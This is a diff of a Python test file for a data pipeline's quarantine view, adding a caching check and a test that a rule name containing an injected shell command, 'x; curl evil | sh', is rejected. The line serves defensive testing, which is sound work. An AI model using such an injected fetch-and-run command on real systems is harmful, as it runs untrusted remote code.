@@ -356,7 +356,9 @@ def test_states_of_a_page_are_those_of_the_whole_ledger(tmp_path: Path, monkeypa
 # --- quarantine, days, search ----------------------------------------------------------------------------------------
 
 
-def test_quarantine_by_rule_with_records_as_they_came(world: PageWorld, lake: Source) -> None:
+def test_quarantine_by_rule_with_records_as_they_came(
+    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
+) -> None:
     view = quarantined.quarantine_view(lake, world.definition, SILVER)
     assert view.reasons is not None
     assert [(reason.rule, reason.text, reason.records) for reason in view.reasons] == [
@@ -370,6 +372,12 @@ def test_quarantine_by_rule_with_records_as_they_came(world: PageWorld, lake: So
     assert [count for _, count in view.trend] == [3, 3, 3]
     of_rule = quarantined.quarantine_view(lake, world.definition, SILVER, "known_patient")
     assert of_rule.examples == ()
+    broken = quarantined.quarantine_view(lake, world.definition, SILVER, "valid_heartrate")
+    assert broken.examples == view.examples
+    monkeypatch.setattr(quarantined, "_with_rule", None)  # its result is remembered
+    assert quarantined.quarantine_view(lake, world.definition, SILVER, "valid_heartrate").examples == view.examples
+    with pytest.raises(PipelineMissing):
+        quarantined.quarantine_view(lake, world.definition, SILVER, "x; curl evil | sh")
     assert quarantined.quarantine_view(lake, world.definition, SILVER, rows=False).examples is None
     with pytest.raises(PipelineMissing):
         quarantined.quarantine_view(lake, world.definition, "patients_bronze")
